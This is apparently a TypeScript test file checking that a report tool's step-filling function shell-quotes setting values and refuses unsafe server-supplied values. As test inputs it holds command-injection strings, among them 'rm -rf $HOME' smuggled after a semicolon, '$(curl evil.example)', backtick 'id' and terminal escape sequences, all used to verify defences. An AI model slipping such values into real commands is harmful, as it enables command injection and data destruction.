import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { Evidence } from '../../../src/check.ts'
import { applies, fillStep } from '../../../src/report/fill-step.ts'
import { secret } from '../../../src/secrets/secret.ts'
import type { Settings } from '../../../src/settings/settings.ts'
import { shellQuote } from '../../../src/shell-quote.ts'
import { ended, sampleCause, sampleReport, sampleSettings } from '../samples.ts'

function filled(run: string, evidence: Evidence = {}, values: Settings['values'] = {}) {
  const step = { do: `Type ${run}`, run }
  return fillStep(step, evidence, sampleSettings(values))
}

const given = (value: string) => ({ value, source: '--bucket' })

describe('applies', () => {
  const step = (when?: string) => ({ do: 'Mend it', ...(when === undefined ? {} : { when }) })

  it.each<[when: string, evidence: Evidence]>([
    ['nearest', { nearest: 'cases' }],
    ['nearest', { nearest: '' }],
    ['confirmed', { confirmed: false }],
    ['!nearest', {}],
    ['!nearest', { foundAt: 'h' }],
    ['source=--region', { source: '--region' }],
    ['confirmed=false', { confirmed: false }],
    ['port=443', { port: 443 }],
    ['found=a=b', { found: 'a=b' }],
    ['found=', { found: '' }],
    ['found=a\nb', { found: 'a\nb' }],
    ['!source=--region', { source: 'AWS_REGION' }],
    ['!source=--region', {}],
  ])('is so of a step for %j with %j', (when, evidence) => {
    expect(applies(step(when), evidence)).toBe(true)
  })

  it.each<[when: string, evidence: Evidence]>([
    ['nearest', {}],
    ['nearest', { nearestName: 'cases' }],
    ['!nearest', { nearest: 'cases' }],
    ['source=--region', { source: '--regions' }],
    ['source=--region', {}],
    ['port=443', { port: 4433 }],
    ['confirmed=true', { confirmed: false }],
    ['!source=--region', { source: '--region' }],
  ])('is not so of a step for %j with %j', (when, evidence) => {
    expect(applies(step(when), evidence)).toBe(false)
  })

  it('is always so of a step that asks for nothing', () => {
    expect([applies(step(), {}), applies(step(), { nearest: 'cases' })]).toEqual([true, true])
  })

  it('keeps steps out of a report, and nothing of the condition in it', () => {
    const fix = [
      { do: 'Take <nearest>', when: 'nearest' },
      { do: 'Look around', when: '!nearest' },
      { do: 'Then go on' },
    ]
    const stepsWith = (evidence: Evidence) =>
      sampleReport([ended.fail('a/1', 'f/one', evidence)], { 'f/one': sampleCause({ fix }) })
        .rootCauses[0]?.fix
    expect(stepsWith({ nearest: 'cases' })).toEqual([{ do: 'Take cases' }, { do: 'Then go on' }])
    expect(stepsWith({})).toEqual([{ do: 'Look around' }, { do: 'Then go on' }])
  })
})

describe('fillStep', () => {
  it('fills in evidence and settings, in what to do and in its command', () => {
    const step = filled('cp <region> <bucket>', { region: 'eu-west-3' }, { bucket: given('cases') })
    expect(step).toEqual({ do: 'Type cp eu-west-3 cases', run: 'cp eu-west-3 cases' })
  })

  it('leaves a step without a command without one', () => {
    const step = fillStep({ do: 'See <host>' }, { host: 'h' }, sampleSettings())
    expect(step).toStrictEqual({ do: 'See h' })
  })

  it('prefers what was seen to what was set', () => {
    const step = filled('ls <region>', { region: 'auto' }, { region: given('eu-west-3') })
    expect(step.run).toBe('ls auto')
  })

  it('shows numbers and truth values as they are', () => {
    expect(filled('nc <port> <there>', { port: 6379, there: false }).run).toBe('nc 6379 false')
  })

  it.each(['<unknown>', '<toString>', '<constructor>', '<>', '<a b>', '<1>', '< bucket >'])(
    'leaves %s as it is written',
    (text) => {
      expect(filled(`ls ${text}`).run).toBe(`ls ${text}`)
    },
  )

  it('does not fill in what is in a value that was filled in', () => {
    const values = { bucket: given('<region>'), region: given('auto') }
    expect(filled('ls <bucket>', {}, values).run).toBe("ls '<region>'")
  })

  it('never fills in a secret', () => {
    const values = {
      token: { secret: secret('tbo_hidden'), source: 'TONBO_API_KEY' },
      metadataUrl: { value: 'redis://h', secret: secret('redis://:pw@h'), source: 'ENV' },
    }
    const { run } = filled('echo <token> <metadataUrl>', {}, values)
    expect(run).toBe('echo <token> redis://h')
  })

  it('quotes settings for the shell in the command, and not in the words', () => {
    const step = filled('ls <bucket>', {}, { bucket: given("a b'c; rm -rf $HOME") })
    expect(step.run).toBe(`ls 'a b'\\''c; rm -rf $HOME'`)
    expect(step.do).toBe("Type ls a b'c; rm -rf $HOME")
  })

  it('makes control characters visible in the words', () => {
    const step = filled('ls <bucket>', {}, { bucket: given('a\u001b[31mb\u202e') })
    expect(step.do).toBe('Type ls a\\u{1b}[31mb\\u{202e}')
  })
})

describe('fillStep, of a value that came from a server,', () => {
  it.each([
    '$(curl evil.example)',
    '`id`',
    'a;b',
    'a b',
    'a|b',
    "a'b",
    'a"b',
    'a\nb',
    '\u001b]0;x\u0007',
    '',
    'x'.repeat(65),
    'https://evil.example/x',
    'a/b',
    'größe',
    '~',
    '*',
    '/tmp/a\nb',
    '/tmp/\u001b[31m',
  ])('puts nothing into a command that is not plainly harmless: %j', (value) => {
    const step = filled('curl <region>', { region: value }, { region: given('mine') })
    expect(step).toEqual({ do: 'Type curl <region>', run: 'curl <region>' })
  })

  it.each(['eu-west-3', 'A.b_c-1', '42', 'x'.repeat(64)])('puts in what is: %s', (value) => {
    expect(filled('curl <region>', { region: value }).run).toBe(`curl ${value}`)
  })

  it('gives a path to the shell as one word', () => {
    const paths = fc.string({ unit: 'grapheme' }).map((text) => `/${text}`)
    fc.assert(
      fc.property(paths, (path) => {
        expect(['ls <path>', `ls ${shellQuote(path)}`]).toContain(filled('ls <path>', { path }).run)
      }),
    )
    expect(filled('ls <path>', { path: "/a b/$(id)'" }).run).toBe(`ls '/a b/$(id)'\\'''`)
  })
})
